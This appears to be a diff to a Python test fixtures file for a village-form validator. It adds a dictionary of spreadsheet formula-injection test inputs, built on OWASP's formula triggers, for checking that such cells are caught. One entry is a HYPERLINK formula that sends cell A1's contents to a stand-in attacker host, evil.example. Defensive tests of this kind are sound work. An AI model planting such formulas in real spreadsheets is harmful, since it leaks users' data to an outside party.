@@ -14,6 +14,18 @@ DALAT = "150621000000"
 WANGAIZHAO = "150621108000"  # 王爱召镇
 SHULINZHAO = "150621109000"  # 树林召镇
 
+# Text a spreadsheet would take for a formula: OWASP's formula triggers at the start of a
+# text, and openpyxl's error codes (a test id for each)
+HOSTILE_CELL_TEXT = {
+    "equals": '=HYPERLINK("http://evil.example/?"&A1,"核对")',
+    "plus": "+1+1",
+    "minus": "-1+1",
+    "at": "@SUM(1+1)",
+    "tab": "\t=1+1",
+    "carriage-return": "\r=1+1",
+    "error-code": "#N/A",
+}
+
 
 def village_row(code: str, **overrides: object) -> dict[str, object]:
     """A village row that passes every rule of the village form."""
